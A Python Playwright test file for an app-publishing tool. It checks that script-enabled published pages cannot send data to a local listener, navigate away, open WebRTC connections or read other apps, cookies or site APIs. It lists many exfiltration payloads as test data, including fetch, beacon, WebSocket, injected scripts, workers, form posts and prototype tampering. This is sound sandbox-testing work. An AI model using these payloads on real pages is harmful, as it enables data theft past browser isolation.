"""What a hostile app's page tries in a real browser, with scripts that it was allowed to run: nothing may reach the
listener, and the widgets go on working. Where it was allowed none: :mod:`tests.publish.test_no_scripts`."""

from __future__ import annotations

import json
from contextlib import AsyncExitStack
from html import escape
from pathlib import Path

import anyio
import pytest
from playwright.async_api import Page, expect

from microapps.publish import PublishedApp

from ..long import long_after
from .conftest import Listener, Served, becomes_true, inside, listening, published

pytestmark = [pytest.mark.anyio, pytest.mark.browser, pytest.mark.sandbox]

WIDGETS = """
import ipywidgets as w
from IPython.display import display, HTML, SVG, Markdown, Javascript
go = w.Button(description="Still works")
out = w.Label("not yet")
def on(_):
    out.value = "it does"
go.on_click(on)
display(w.VBox([go, out]))
"""

SENDING = {
    "fetch": "fetch('{url}/fetch', {mode: 'no-cors'})",
    "request": "const x = new XMLHttpRequest(); x.open('GET', '{url}/xhr'); x.send()",
    "beacon": "navigator.sendBeacon('{url}/beacon', 'data')",
    "socket": "new WebSocket('{ws}/socket')",
    "events": "new EventSource('{url}/events')",
    "image": "new Image().src = '{url}/image'",
    "audio": "new Audio('{url}/audio').load()",
    "script": "const s = document.createElement('script'); s.src = '{url}/script'; document.body.append(s)",
    "import": "import('{url}/module.js').catch(() => 0)",
    "style": "const s = document.createElement('style'); s.textContent = '@import url({url}/css); body "
    "{{ background: url({url}/bg) }} @font-face {{ font-family: x; src: url({url}/font) }}'; "
    "document.head.append(s); document.body.style.fontFamily = 'x'",
    "link": "for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) "
    "{{ const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = '{url}/' + rel; "
    "document.head.append(l) }}",
    "frame": "for (const tag of ['iframe', 'embed', 'object']) {{ const f = document.createElement(tag); "
    "f.src = f.data = '{url}/' + tag; document.body.append(f) }}",
    "nested": "const f = document.createElement('iframe'); f.srcdoc = '<img src={url}/nested>"
    "<script>fetch(`{url}/nested-script`)<' + '/script>'; document.body.append(f)",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(`{url}/worker`); importScripts(`{url}/worker.js`)'])))",
    "popup": "window.open('{url}/popup')",
    "popup by link": "const a = document.createElement('a'); a.href = '{url}/a'; a.target = '_blank'; "
    "document.body.append(a); a.click()",
    "ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '{url}/ping'; document.body.append(a); "
    "a.click()",
    "top": "try {{ window.top.location = '{url}/top' }} catch (e) {{}}",
    "parent": "try {{ window.parent.location = '{url}/parent' }} catch (e) {{}}",
    "base": "const b = document.createElement('base'); b.href = '{url}/'; document.head.append(b); "
    "new Image().src = 'based'",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = "
    "JSON.stringify({{prefetch: [{{source: 'list', urls: ['{url}/speculation']}}], prerender: [{{source: 'list', "
    "urls: ['{url}/prerendered']}}]}}); document.body.append(s)",
    "transport": "new WebTransport('https://127.0.0.1:{port}/transport')",
    "cache": "caches.open('x')",
    "service worker": "navigator.serviceWorker.register('{url}/sw.js')",
}
WAYS = ["html widget", "display", "javascript", "markdown"]
MARKUP = """
<link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}">
<img src="{url}/m-img" onerror="fetch('{url}/m-onerror')"><video src="{url}/m-video" poster="{url}/m-poster"></video>
<svg><image href="{url}/m-svg"/><use href="{url}/m-use#x"/>
<foreignObject><img src="{url}/m-foreign"></foreignObject></svg>
<link rel="stylesheet" href="{url}/m-css"><iframe src="{url}/m-frame"></iframe><object data="{url}/m-object"></object>
<form action="{url}/m-form"><input name="q" value="data"><button id="send">Send</button></form>
<table background="{url}/m-table"></table><input type="image" src="{url}/m-input">
<div style="background-image: url({url}/m-style); content: url({url}/m-content)">x</div>
"""
LEAVING = {
    "form": "const f = document.createElement('form'); f.action = '{url}/form'; f.method = 'post'; "
    "document.body.append(f); f.submit()",
    "location": "window.location = '{url}/location?data'",
    "replace": "window.location.replace('{url}/replace?data')",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={url}/refresh'; "
    "document.head.append(m)",
    "own link": "const a = document.createElement('a'); a.href = '{url}/own'; document.body.append(a); a.click()",
    "blank": "const f = document.createElement('iframe'); document.body.append(f); "
    "f.contentWindow.location = '{url}/blank'",
    "history": "history.pushState(null, '', '/'); window.location = '{url}/history'",
}


def attack(script: str, listener: Listener) -> str:
    ready = script.replace("{{", "{").replace("}}", "}")
    return (
        ready.replace("{url}", listener.url)
        .replace("{ws}", f"ws://127.0.0.1:{listener.port}")
        .replace("{port}", str(listener.port))
    )


@pytest.fixture
def served(bare: Served) -> Served:
    bare.notices.clear()
    return bare


async def visit(served: Served, page: Page, app: PublishedApp) -> None:
    await served.site.serve([app])
    await page.goto(await served.site.link(app.name))


async def still_works(page: Page) -> None:
    await inside(page).get_by_role("button", name="Still works").click()
    await expect(inside(page).get_by_text("it does")).to_be_visible()


async def test_nothing_is_sent_out(served: Served, page: Page, listener: Listener, tmp_path: Path) -> None:
    """By every way in which a page comes to a script: by a widget's HTML, by both kinds of output, in prose."""
    sending = "\n".join(
        f"try {{ {attack(script, listener)} }} catch (e) {{ }}".join("{}") for script in SENDING.values()
    )
    markup = MARKUP.format(url=listener.url)
    scripts = {way: f"{sending}; (window.attacked ??= []).push('{way}')" for way in WAYS}
    by_image = f'<img src="data:," onerror="{escape(scripts["html widget"])}">{markup}'
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"></svg>'
    cells = [
        f"#md # Title\n\n{markup}<script>{scripts['markdown']}</script>\n\n![x]({listener.url}/md)",
        f"display(w.HTML({by_image!r}))",
        f"display(HTML({markup + '<script>' + scripts['display'] + '</script>'!r}))\ndisplay(SVG({drawing!r}))",
        f"display(Javascript({scripts['javascript']!r}))\ndisplay(HTML({markup!r}))",
    ]
    await visit(served, page, published(tmp_path, "hostile", WIDGETS, *cells, scripts=True))
    await inside(page).get_by_role("button", name="Still works").wait_for()
    await becomes_true(page.frames[1], "ways => ways.every((way) => window.attacked?.includes(way))", WAYS)
    await anyio.sleep(1.0)
    await still_works(page)
    assert listener.heard == []
    assert len(page.context.pages) == 1
    assert page.url.startswith(served.site.url)


@pytest.mark.parametrize("way", long_after(3, LEAVING))
async def test_the_page_cannot_leave(way: str, served: Served, page: Page, listener: Listener, tmp_path: Path) -> None:
    script = attack(LEAVING[way], listener)
    html = f"<script>setTimeout(() => {{ console.log('leaving'); try {{ {script} }} catch (e) {{}} }}, 200)</script>"
    app = published(tmp_path, "leaving", WIDGETS, f"#md {html}", scripts=True)
    async with page.expect_console_message(lambda message: message.text == "leaving"):
        await visit(served, page, app)
    await anyio.sleep(1.0)
    assert listener.heard == []
    assert page.url.startswith(served.site.url)


CALL = (
    "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}); c.createDataChannel('x'); "
    "c.createOffer().then((o) => c.setLocalDescription(o))"
)
FRAMED = f'<iframe srcdoc="<script>{CALL}</script>"></iframe>'
CALLING = {
    "here": CALL,
    "a frame": "const f = document.createElement('iframe'); f.srcdoc = FRAMED_SCRIPT; document.body.append(f)",
    "markup": "document.body.insertAdjacentHTML('beforeend', FRAMED)",
    "a shadow": "const d = document.createElement('div'); document.body.append(d); "
    "d.attachShadow({mode: 'closed'}).innerHTML = FRAMED",
    "an empty frame": "const f = document.createElement('iframe'); document.body.append(f); "
    "const W = window[window.length - 1]; RTCPeerConnection = W.RTCPeerConnection; " + CALL,
}
TAMPERING = (
    "Element.prototype.remove = Document.prototype.querySelector = () => null; window.MutationObserver = null; "
    "document.body.insertAdjacentHTML('beforeend', FRAMED)"
)


def calling(script: str, listener: Listener) -> str:
    """A cell whose output runs a script that calls the listener."""
    ready = script.replace("FRAMED_SCRIPT", json.dumps(f"<script>{CALL}</script>")).replace(
        "FRAMED", json.dumps(FRAMED)
    )
    return f"display(Javascript({ready.replace('PORT', str(listener.port)).join('{}')!r}))"


async def test_no_datagram_leaves(served: Served, page: Page, tmp_path: Path) -> None:
    """By no way; each has a listener of its own, so that a failure names it."""
    async with AsyncExitStack() as stack:
        ways = [*CALLING, "the page's own frame", "prose"]
        listeners = {way: await stack.enter_async_context(listening()) for way in ways}
        framed = {way: FRAMED.replace("PORT", str(listeners[way].port)) for way in ways}
        cells = [calling(script, listeners[way]) for way, script in CALLING.items()]
        cells = [f"#md {framed['prose']}", f"display(HTML({framed[ways[-2]]!r}))", *cells]
        await visit(served, page, published(tmp_path, "rtc", WIDGETS, *cells, scripts=True))
        await still_works(page)
        await anyio.sleep(2.0)
        assert {way: listener.heard for way, listener in listeners.items()} == {way: [] for way in ways}


async def test_no_datagram_leaves_a_tampered_page(
    served: Served, page: Page, listener: Listener, tmp_path: Path
) -> None:
    await visit(served, page, published(tmp_path, "rtc", WIDGETS, calling(TAMPERING, listener), scripts=True))
    await still_works(page)
    await anyio.sleep(2.0)
    assert listener.heard == []


async def test_the_site_gives_a_hostile_page_nothing(served: Served, page: Page, tmp_path: Path) -> None:
    other = published(tmp_path, "other", WIDGETS)
    app = published(tmp_path, "curious", WIDGETS)
    await served.site.serve([app, other])
    secret = await served.site.link("other")
    await page.goto(await served.site.link("curious"))
    await still_works(page)
    for url in (secret, served.site.index_url, f"{served.site.url}api/kernels", f"{served.site.url}voila/files/x.png"):
        answer = await page.frames[1].evaluate("(url) => fetch(url).then((r) => r.text()).catch((e) => 'blocked')", url)
        assert answer == "blocked"
    reach = (
        "[document.referrer, location.ancestorOrigins.length, "
        "(() => { try { return document.cookie } catch (e) { return 'blocked' } })()]"
    )
    assert await page.frames[1].evaluate(reach) == ["", 1, "blocked"]


async def test_the_listener_can_be_reached_without_the_sites_policy(page: Page, listener: Listener) -> None:
    """The negative control: the same attacks from a page without a policy do reach it."""
    await page.goto(f"{listener.url}/control")
    scripts = ["fetch", "image", "beacon", "script"]
    for name in scripts:
        await page.evaluate(attack(SENDING[name], listener))
    with anyio.fail_after(60):
        while len(listener.heard) < len(scripts):
            await anyio.sleep(0.05)
